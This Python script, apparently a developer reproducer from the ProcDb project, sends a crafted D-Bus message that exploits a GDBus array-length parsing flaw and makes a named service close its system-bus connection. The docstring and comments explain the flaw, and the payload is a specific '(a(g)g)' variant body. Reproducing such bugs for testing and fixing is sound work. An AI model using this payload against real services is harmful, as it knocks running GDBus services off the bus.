# SPDX-License-Identifier: GPL-2.0-only
# Copyright (C) 2026 The ProcDb developers
"""Sends a well-formed message that GDBus misreads: it closes the connection.

Arguments: to whom, and "call" or "signal".

GDBus counts the length of an array from before the padding in front of its
first element, which is up to 4 bytes too early. If the last element begins
where the one before ends, or just behind, and has at most 4 bytes, it is taken
for what follows the array. Only structures align to 8 bytes and may be that
short, by holding nothing but signatures, variants or arrays of length 0.
"""

import os
import socket
import sys

from gi.repository import Gio, GLib

destination, kind = sys.argv[1:]
PATH = "/org/pandemonium/ProcDb"
INTERFACE = "org.pandemonium.ProcDb1"

hello = Gio.DBusMessage.new_method_call("org.freedesktop.DBus", "/org/freedesktop/DBus",
                                        "org.freedesktop.DBus", "Hello")
hello.set_serial(1)
if kind == "call":
    message = Gio.DBusMessage.new_method_call(destination, PATH, INTERFACE, "ListProfiles")
    message.set_flags(Gio.DBusMessageFlags.NO_AUTO_START)
else:
    message = Gio.DBusMessage.new_signal(PATH, INTERFACE, "Poison")
    message.set_destination(destination)
message.set_serial(2)
# Two structures of a signature, of 7 and of 3 bytes, and one more signature: the NUL
# of the padding is read as its length, and the length of "y" as the NUL behind it.
message.set_body(GLib.Variant("(a(g)g)", ([("sssss",), ("y",)], "")))

with socket.socket(socket.AF_UNIX) as bus:
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    assert bus.recv(4096).startswith(b"OK")
    bus.sendall(b"BEGIN\r\n" + hello.to_blob(Gio.DBusCapabilityFlags.NONE)
                + message.to_blob(Gio.DBusCapabilityFlags.NONE))
    # Until the bus has read it.
    bus.settimeout(0.2)
    try:
        while bus.recv(65536):
            pass
    except TimeoutError:
        pass
